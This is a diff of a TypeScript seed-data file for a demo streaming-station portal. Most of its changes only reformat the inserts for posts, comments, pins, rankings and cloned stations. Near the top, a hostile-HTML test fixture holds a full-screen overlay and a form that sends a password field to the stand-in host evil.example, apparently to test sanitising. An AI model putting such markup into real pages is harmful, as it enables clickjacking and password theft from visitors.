@@ -53,7 +53,18 @@ export const HOSTILE_HTML = [
   `<p style="position:fixed;inset:0;background:red" onclick="alert(2)">공지 확인 부탁드립니다.</p><form action="//evil.example"><input name="pw"></form>`,
 ];
 
-const TITLE_WORDS = ["오늘 방송 후기", "이번 주 일정", "이벤트 당첨자 발표", "자유롭게 이야기해요", "신청곡 받아요", "방송 장비 바꿨어요", "굿즈 제작 설문", "합방 예고", "휴방 안내", "팬아트 감사합니다"];
+const TITLE_WORDS = [
+  "오늘 방송 후기",
+  "이번 주 일정",
+  "이벤트 당첨자 발표",
+  "자유롭게 이야기해요",
+  "신청곡 받아요",
+  "방송 장비 바꿨어요",
+  "굿즈 제작 설문",
+  "합방 예고",
+  "휴방 안내",
+  "팬아트 감사합니다",
+];
 const GUEST_WORDS = ["잘 보고 가요!", "오늘 방송 최고였어요", "항상 응원합니다", "다음 방송도 기대할게요", "첫 방문이에요 반가워요"];
 const LINK_SEEDS: Array<[number, string, string]> = [
   [1, "https://facebook.com/streamon.demo", "페이스북"],
@@ -90,16 +101,44 @@ let nextPhotoNo = 1;
 
 function insertPost(
   db: Db,
-  post: { stationNo: number; bbsNo: number; userId: string; title: string; content: string; regDate: string; readCnt: number; likeCnt: number; isNotice?: boolean; hashTags?: string[] },
+  post: {
+    stationNo: number;
+    bbsNo: number;
+    userId: string;
+    title: string;
+    content: string;
+    regDate: string;
+    readCnt: number;
+    likeCnt: number;
+    isNotice?: boolean;
+    hashTags?: string[];
+  },
   photos = 0,
 ): number {
   nextTitleNo += 1;
   db.prepare(
     `INSERT INTO station_posts (title_no, station_no, bbs_no, user_id, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags)
      VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
-  ).run(nextTitleNo, post.stationNo, post.bbsNo, post.userId, post.title, post.content, post.regDate, post.readCnt, post.likeCnt, post.isNotice ? 1 : 0, toJson(post.hashTags ?? []));
+  ).run(
+    nextTitleNo,
+    post.stationNo,
+    post.bbsNo,
+    post.userId,
+    post.title,
+    post.content,
+    post.regDate,
+    post.readCnt,
+    post.likeCnt,
+    post.isNotice ? 1 : 0,
+    toJson(post.hashTags ?? []),
+  );
   for (let index = 0; index < photos; index += 1) {
-    db.prepare("INSERT INTO station_photos (photo_no, title_no, position, label, mime, data) VALUES (?, ?, ?, ?, NULL, NULL)").run(nextPhotoNo, nextTitleNo, index, `사진 ${index + 1}`);
+    db.prepare("INSERT INTO station_photos (photo_no, title_no, position, label, mime, data) VALUES (?, ?, ?, ?, NULL, NULL)").run(
+      nextPhotoNo,
+      nextTitleNo,
+      index,
+      `사진 ${index + 1}`,
+    );
     nextPhotoNo += 1;
   }
   return nextTitleNo;
@@ -107,7 +146,8 @@ function insertPost(
 
 function insertComments(db: Db, rng: Rng, titleNo: number, writers: string[], regDate: number, count: number) {
   const insert = db.prepare("INSERT INTO station_comments (title_no, user_id, comment, reg_date) VALUES (?, ?, ?, ?)");
-  for (let index = 0; index < count; index += 1) insert.run(titleNo, rng.pick(writers), rng.pick(GUEST_WORDS), kstWallClock(regDate + (index + 1) * 17 * MINUTE));
+  for (let index = 0; index < count; index += 1)
+    insert.run(titleNo, rng.pick(writers), rng.pick(GUEST_WORDS), kstWallClock(regDate + (index + 1) * 17 * MINUTE));
 }
 
 function insertDisplay(db: Db, rng: Rng, stationNo: number, userId: string, nickname: string, demo: boolean) {
@@ -155,7 +195,14 @@ function insertDisplay(db: Db, rng: Rng, stationNo: number, userId: string, nick
   );
 }
 
-function insertRankings(db: Db, rng: Rng, stationNo: number, pool: Array<{ user_id: string; nickname: string }>, sizes: { topfan: number; acc: number; gift: number }, now: number) {
+function insertRankings(
+  db: Db,
+  rng: Rng,
+  stationNo: number,
+  pool: Array<{ user_id: string; nickname: string }>,
+  sizes: { topfan: number; acc: number; gift: number },
+  now: number,
+) {
   const insert = db.prepare(
     "INSERT INTO station_rankings (station_no, kind, rank, user_id, user_nick, score, first_payment_date) VALUES (?, ?, ?, ?, ?, ?, ?)",
   );
@@ -196,19 +243,38 @@ function seedDemoStation({ db, rng, now }: Ctx, stationNo: number, pool: Array<{
   };
 
   // 공지사항: notices, one with hostile HTML, one with photos; pinned posts (one still shown, one expired).
-  const notice = post(1002, 0, { isNotice: true, title: "방송국 이용 규칙 안내", content: `<h3>꼭 읽어주세요</h3>${paragraphs(rng, 3)}<ul><li>욕설 금지</li><li>도배 금지</li></ul>` });
+  const notice = post(1002, 0, {
+    isNotice: true,
+    title: "방송국 이용 규칙 안내",
+    content: `<h3>꼭 읽어주세요</h3>${paragraphs(rng, 3)}<ul><li>욕설 금지</li><li>도배 금지</li></ul>`,
+  });
   post(1002, 1, { isNotice: true, title: "이번 달 방송 일정", content: HOSTILE_HTML[0] });
   const photoPost = post(1002, 2, { title: "오프라인 팬미팅 사진", content: `<p>팬미팅에 와주셔서 감사합니다!</p>${paragraphs(rng, 2)}` }, 3);
-  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(stationNo, notice, kstDate(now + 30 * DAY), kstWallClock(now - DAY));
-  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(stationNo, photoPost, kstDate(now - 2 * DAY), kstWallClock(now - 20 * DAY));
+  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
+    stationNo,
+    notice,
+    kstDate(now + 30 * DAY),
+    kstWallClock(now - DAY),
+  );
+  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
+    stationNo,
+    photoPost,
+    kstDate(now - 2 * DAY),
+    kstWallClock(now - 20 * DAY),
+  );
 
   // 자유게시판: enough posts by the streamer and by viewers to page (20 per page).
   for (let index = 3; index < 48; index += 1) {
     const byViewer = index % 3 === 0;
-    post(1003, index, {
-      userId: byViewer ? rng.pick(readers) : DEMO_STREAMER,
-      content: index === 7 ? HOSTILE_HTML[1] : index === 11 ? HOSTILE_HTML[2] : paragraphs(rng, rng.int(1, 3)),
-    }, index % 10 === 4 ? 1 : 0);
+    post(
+      1003,
+      index,
+      {
+        userId: byViewer ? rng.pick(readers) : DEMO_STREAMER,
+        content: index === 7 ? HOSTILE_HTML[1] : index === 11 ? HOSTILE_HTML[2] : paragraphs(rng, rng.int(1, 3)),
+      },
+      index % 10 === 4 ? 1 : 0,
+    );
   }
   // Guestbook entries by viewers.
   for (let index = 0; index < 12; index += 1) {
@@ -232,12 +298,21 @@ function seedDemoStation({ db, rng, now }: Ctx, stationNo: number, pool: Array<{
     "INSERT INTO station_badges (station_no, idx, group_no, priority, group_name, group_class_name, group_background_color) VALUES (?, ?, ?, ?, ?, ?, ?)",
   );
   // The class-less badge comes first: the portal must skip it and still show three.
-  [BADGE_SEEDS[4], ...BADGE_SEEDS.slice(0, 4)].forEach(([name, className, colour], index) => insertBadge.run(stationNo, index + 1, 100 + index, index + 1, name, className, colour));
-
-  const vods = db.prepare("SELECT title_no FROM vods WHERE station_no = ? AND file_type IN ('REVIEW','NORMAL','HIGHLIGHT','CLIP') ORDER BY title_no").pluck().all(stationNo) as number[];
-  vods.slice(0, 2).forEach((titleNo, index) =>
-    db.prepare("INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) VALUES (?, ?, ?, ?)").run(titleNo, 700 + index, BLIND_REASONS[index], kstWallClock(now - (index + 1) * DAY)),
+  [BADGE_SEEDS[4], ...BADGE_SEEDS.slice(0, 4)].forEach(([name, className, colour], index) =>
+    insertBadge.run(stationNo, index + 1, 100 + index, index + 1, name, className, colour),
   );
+
+  const vods = db
+    .prepare("SELECT title_no FROM vods WHERE station_no = ? AND file_type IN ('REVIEW','NORMAL','HIGHLIGHT','CLIP') ORDER BY title_no")
+    .pluck()
+    .all(stationNo) as number[];
+  vods
+    .slice(0, 2)
+    .forEach((titleNo, index) =>
+      db
+        .prepare("INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) VALUES (?, ?, ?, ?)")
+        .run(titleNo, 700 + index, BLIND_REASONS[index], kstWallClock(now - (index + 1) * DAY)),
+    );
   const insertPlaylist = db.prepare("INSERT INTO station_playlists (station_no, user_id, title, title_nos, reg_date) VALUES (?, ?, ?, ?, ?)");
   insertPlaylist.run(stationNo, DEMO_STREAMER, "레전드 모음", toJson(vods.slice(2, 8)), kstWallClock(now - 10 * DAY));
   insertPlaylist.run(stationNo, DEMO_STREAMER, "처음 오신 분들께", toJson(vods.slice(8, 11)), kstWallClock(now - 40 * DAY));
@@ -260,12 +335,23 @@ function seedPlainStation({ db, rng, now }: Ctx, stationNo: number, userId: stri
       likeCnt: rng.int(0, 300),
       isNotice: index === 0,
     });
-    insertComments(db, rng, titleNo, pool.slice(0, 5).map((person) => person.user_id), regDate, rng.int(0, 2));
+    insertComments(
+      db,
+      rng,
+      titleNo,
+      pool.slice(0, 5).map((person) => person.user_id),
+      regDate,
+      rng.int(0, 2),
+    );
   }
   // Some stations have only one of the two subscription rankings (the toggle then stays hidden).
   const shape = rng.int(0, 3);
   insertRankings(db, rng, stationNo, pool, { topfan: rng.int(0, 12), acc: shape === 1 ? 0 : rng.int(0, 8), gift: shape === 2 ? 0 : rng.int(0, 5) }, now);
-  if (rng.chance(0.5)) db.prepare("INSERT INTO station_links (station_no, code, url, link_name, position) VALUES (?, 3, ?, '유튜브', 0)").run(stationNo, `https://youtube.com/@${userId}`);
+  if (rng.chance(0.5))
+    db.prepare("INSERT INTO station_links (station_no, code, url, link_name, position) VALUES (?, 3, ?, '유튜브', 0)").run(
+      stationNo,
+      `https://youtube.com/@${userId}`,
+    );
   if (rng.chance(0.3)) {
     db.prepare(
       "INSERT INTO station_badges (station_no, idx, group_no, priority, group_name, group_class_name, group_background_color) VALUES (?, 1, 100, 1, '파트너 스트리머', 'badge_partner', '#0545b1')",
@@ -276,7 +362,9 @@ function seedPlainStation({ db, rng, now }: Ctx, stationNo: number, userId: stri
 export function seedStations({ db, rng, now }: SeedContext) {
   nextTitleNo = POST_TITLE_START;
   nextPhotoNo = 1;
-  const stations = db.prepare("SELECT s.station_no, s.user_id, u.nickname FROM stations s JOIN users u ON u.user_id = s.user_id ORDER BY s.station_no").all() as Array<{
+  const stations = db
+    .prepare("SELECT s.station_no, s.user_id, u.nickname FROM stations s JOIN users u ON u.user_id = s.user_id ORDER BY s.station_no")
+    .all() as Array<{
     station_no: number;
     user_id: string;
     nickname: string;
@@ -285,8 +373,19 @@ export function seedStations({ db, rng, now }: SeedContext) {
   for (const station of stations) {
     const demo = station.user_id === DEMO_STREAMER;
     insertDisplay(db, rng, station.station_no, station.user_id, station.nickname, demo);
-    if (demo) seedDemoStation({ db, rng, now }, station.station_no, pool.filter((person) => person.user_id !== DEMO_STREAMER));
-    else seedPlainStation({ db, rng, now }, station.station_no, station.user_id, pool.filter((person) => person.user_id !== station.user_id));
+    if (demo)
+      seedDemoStation(
+        { db, rng, now },
+        station.station_no,
+        pool.filter((person) => person.user_id !== DEMO_STREAMER),
+      );
+    else
+      seedPlainStation(
+        { db, rng, now },
+        station.station_no,
+        station.user_id,
+        pool.filter((person) => person.user_id !== station.user_id),
+      );
   }
   // A few stations that are not live are blinded, sleeping, banned or their owner suspended (001 §8).
   const offline = db
@@ -319,7 +418,7 @@ function copyStationRows(db: Db, table: string, from: number, to: number, skip: 
  * the blinds, and a name of its own so that it never counts as a duplicate.
  */
 export function cloneStation(db: Db, fromUserId: string, toUserId: string) {
-  const template = db.prepare("SELECT * FROM stations WHERE user_id = ?").get(fromUserId) as Record<string, unknown> & { station_no: number } | undefined;
+  const template = db.prepare("SELECT * FROM stations WHERE user_id = ?").get(fromUserId) as (Record<string, unknown> & { station_no: number }) | undefined;
   if (!template) return;
   const stationNo = (db.prepare("SELECT MAX(station_no) FROM stations").pluck().get() as number) + 1;
   db.prepare(
@@ -340,7 +439,9 @@ export function cloneStation(db: Db, fromUserId: string, toUserId: string) {
   copyStationRows(db, "station_badges", from, stationNo);
 
   const maxTitle = () => Math.max(POST_TITLE_START, db.prepare("SELECT MAX(title_no) FROM station_posts").pluck().get() as number);
-  const posts = db.prepare("SELECT * FROM station_posts WHERE station_no = ? ORDER BY title_no").all(from) as Array<Record<string, unknown> & { title_no: number; user_id: string }>;
+  const posts = db.prepare("SELECT * FROM station_posts WHERE station_no = ? ORDER BY title_no").all(from) as Array<
+    Record<string, unknown> & { title_no: number; user_id: string }
+  >;
   const titleMap = new Map<number, number>();
   for (const post of posts) {
     const titleNo = maxTitle() + 1;
@@ -349,13 +450,27 @@ export function cloneStation(db: Db, fromUserId: string, toUserId: string) {
       `INSERT INTO station_posts (title_no, station_no, bbs_no, user_id, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags)
        SELECT ?, ?, bbs_no, ?, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags FROM station_posts WHERE title_no = ?`,
     ).run(titleNo, stationNo, post.user_id === fromUserId ? toUserId : post.user_id, post.title_no);
-    db.prepare("INSERT INTO station_photos (title_no, position, label, mime, data) SELECT ?, position, label, mime, data FROM station_photos WHERE title_no = ?").run(titleNo, post.title_no);
-    db.prepare("INSERT INTO station_comments (title_no, user_id, comment, reg_date) SELECT ?, user_id, comment, reg_date FROM station_comments WHERE title_no = ?").run(titleNo, post.title_no);
+    db.prepare(
+      "INSERT INTO station_photos (title_no, position, label, mime, data) SELECT ?, position, label, mime, data FROM station_photos WHERE title_no = ?",
+    ).run(titleNo, post.title_no);
+    db.prepare(
+      "INSERT INTO station_comments (title_no, user_id, comment, reg_date) SELECT ?, user_id, comment, reg_date FROM station_comments WHERE title_no = ?",
+    ).run(titleNo, post.title_no);
   }
-  const pins = db.prepare("SELECT title_no, expire_date, reg_date FROM station_pins WHERE station_no = ?").all(from) as Array<{ title_no: number; expire_date: string; reg_date: string }>;
+  const pins = db.prepare("SELECT title_no, expire_date, reg_date FROM station_pins WHERE station_no = ?").all(from) as Array<{
+    title_no: number;
+    expire_date: string;
+    reg_date: string;
+  }>;
   for (const pin of pins) {
     const titleNo = titleMap.get(pin.title_no);
-    if (titleNo) db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(stationNo, titleNo, pin.expire_date, pin.reg_date);
+    if (titleNo)
+      db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
+        stationNo,
+        titleNo,
+        pin.expire_date,
+        pin.reg_date,
+      );
   }
 
   // A dozen of the template's VODs, blinds included, as the clone's own.
@@ -364,10 +479,19 @@ export function cloneStation(db: Db, fromUserId: string, toUserId: string) {
   for (const titleNo of vods) {
     const copy = (db.prepare("SELECT MAX(title_no) FROM vods").pluck().get() as number) + 1;
     const columns = (db.prepare(`PRAGMA table_info("vods")`).all() as Array<{ name: string }>).map((c) => c.name);
-    const select = columns.map((name) => (name === "title_no" ? "?" : name === "user_id" ? "?" : name === "station_no" ? "?" : name === "story_idx" ? "NULL" : `"${name}"`));
-    db.prepare(`INSERT INTO vods (${columns.map((c) => `"${c}"`).join(", ")}) SELECT ${select.join(", ")} FROM vods WHERE title_no = ?`).run(copy, toUserId, stationNo, titleNo);
+    const select = columns.map((name) =>
+      name === "title_no" ? "?" : name === "user_id" ? "?" : name === "station_no" ? "?" : name === "story_idx" ? "NULL" : `"${name}"`,
+    );
+    db.prepare(`INSERT INTO vods (${columns.map((c) => `"${c}"`).join(", ")}) SELECT ${select.join(", ")} FROM vods WHERE title_no = ?`).run(
+      copy,
+      toUserId,
+      stationNo,
+      titleNo,
+    );
     if (blinded.has(titleNo)) {
-      db.prepare("INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) SELECT ?, blind_id, reason, reg_date FROM station_vod_blinds WHERE title_no = ?").run(copy, titleNo);
+      db.prepare(
+        "INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) SELECT ?, blind_id, reason, reg_date FROM station_vod_blinds WHERE title_no = ?",
+      ).run(copy, titleNo);
     }
   }
 }
